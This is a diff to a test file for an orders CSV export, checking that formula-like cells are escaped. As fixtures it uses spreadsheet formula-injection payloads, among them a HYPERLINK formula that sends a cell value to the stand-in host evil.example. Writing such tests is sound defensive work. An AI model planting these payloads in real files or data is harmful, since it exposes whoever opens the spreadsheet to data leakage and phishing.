@@ -24,10 +24,25 @@ const rowsOf = (text: string) =>
     string
   >[];
 
+/** A formula character at the start of a cell, as a spreadsheet reads it. */
+const FORMULA_START = /^[=+\-@]/;
+
+/**
+ * The cells a spreadsheet would make of the text were it to split each line on `separator`
+ * alone (a `;` where that is the list separator, a tab), taking a quote only where a cell
+ * starts with one (so a `,`-delimited quoted field does not hold it together): with the
+ * spaces and the quote a cell starts with taken off.
+ */
+const cellsSplitOn = (text: string, separator: string) =>
+  text
+    .split(/\r\n|\r|\n/)
+    .flatMap((line) => line.split(separator))
+    .map((cell) => cell.replace(/^\s*"?/, ''));
+
 /** A buyer whose name, as a spreadsheet cell, would be a formula. */
-async function formulaBuyer() {
+async function formulaBuyer(name = '=HYPERLINK("http://evil.example","Click")') {
   const user = await insertUser({
-    name: '=HYPERLINK("http://evil.example","Click")',
+    name,
     email: `formula-${Date.now()}-${Math.random().toString(36).slice(2, 8)}@example.com`,
     passwordHash: 'x',
     phone: '555',
@@ -68,7 +83,7 @@ describe('GET /api/v1/auth/all-orders.csv', () => {
     expect(row?.['Payment reference']).toMatch(/^pi_test_/);
   });
 
-  test('when cells hold commas, quotes and line breaks, or start with = + - @, then they are quoted, and the formulas start with a quote', async ({
+  test('when cells hold commas, quotes and line breaks, or start with = + - @, then they are quoted, and the formulas (at the start of a cell or of a line) start with a quote', async ({
     api,
     admin,
   }) => {
@@ -93,8 +108,50 @@ describe('GET /api/v1/auth/all-orders.csv', () => {
       Order: number,
       Buyer: `'${buyer.name}`,
       Items: '1 x Lamp, "big"\r\nred; 1 x @SUM(A1)',
-      Address: "'+1 555 0100\n-2+3",
+      Address: "'+1 555 0100\n'-2+3",
     });
+  });
+
+  test('when a name or an address holds a formula after a separator, then the cell is quoted, starts with a quote, and no separator in it is followed by a formula: whatever a spreadsheet splits on, no cell starts with one', async ({
+    api,
+    admin,
+  }) => {
+    const buyer = await formulaBuyer('Ann;=1+2;@SUM(1)');
+    const product = await makeOrderedProduct();
+    const orderId = await insertOrder({
+      lines: [{ productId: product.id, name: 'Lamp', price: 5, quantity: 1 }],
+      payment: { id: `pi_csv_${Date.now()}`, status: 'succeeded', amount: 500, currency: 'usd' },
+      buyer: { _id: buyer._id },
+      deliveryAddress: {
+        name: 'Ann',
+        street: '=HYPERLINK("http://evil.example/?"&A1,"Click")',
+        city: 'London',
+        postalCode: 'N1 9GU',
+        country: 'United Kingdom',
+        phone: '+44 20 7946 0000',
+      },
+    });
+    const number = String((await findStoredOrder(orderId ?? ''))?.number);
+
+    const res = await exportOf(api, admin.token, { q: number });
+
+    const [row, ...others] = rowsOf(res.text);
+    expect(others).toEqual([]);
+    expect(row).toMatchObject({
+      Order: number,
+      Buyer: "'Ann;'=1+2;'@SUM(1)",
+      Address:
+        '\'Ann, \'=HYPERLINK("http://evil.example/?"&A1,"Click"), N1 9GU London, United Kingdom, Phone: +44 20 7946 0000',
+      Total: '5.00',
+    });
+    expect(res.text).toContain(
+      `\r\n${number},${row?.['Placed at (UTC)']},Not Process,"'Ann;'=1+2;`,
+    );
+    expect(res.text).toContain(',1 x Lamp,1,5.00,USD,');
+    for (const separator of [',', ';', '\t']) {
+      const formulas = cellsSplitOn(res.text, separator).filter((cell) => FORMULA_START.test(cell));
+      expect(formulas, `cells split on ${JSON.stringify(separator)}`).toEqual([]);
+    }
   });
 
   test('when an order was placed with a delivery address, then its Address cell is that address on one line', async ({
